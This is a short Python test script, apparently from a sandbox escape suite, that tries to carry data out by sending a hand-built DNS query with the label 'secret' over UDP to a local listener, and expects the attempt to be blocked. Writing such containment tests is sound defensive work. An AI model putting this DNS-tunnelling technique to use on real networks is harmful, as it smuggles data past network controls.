"""
Tries: carry data out in the question of a name server.
Must see: a refused socket, and a listener that nobody reached.
Control: open
"""

import socket
import struct

question = struct.pack(">6H", 7, 256, 1, 0, 0, 0) + b"\x06secret\x07example\x00\x00\x01\x00\x01"
with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sender:
    sender.connect(("127.0.0.1", HOST["udp_port"]))
    print("WON", sender.send(question))
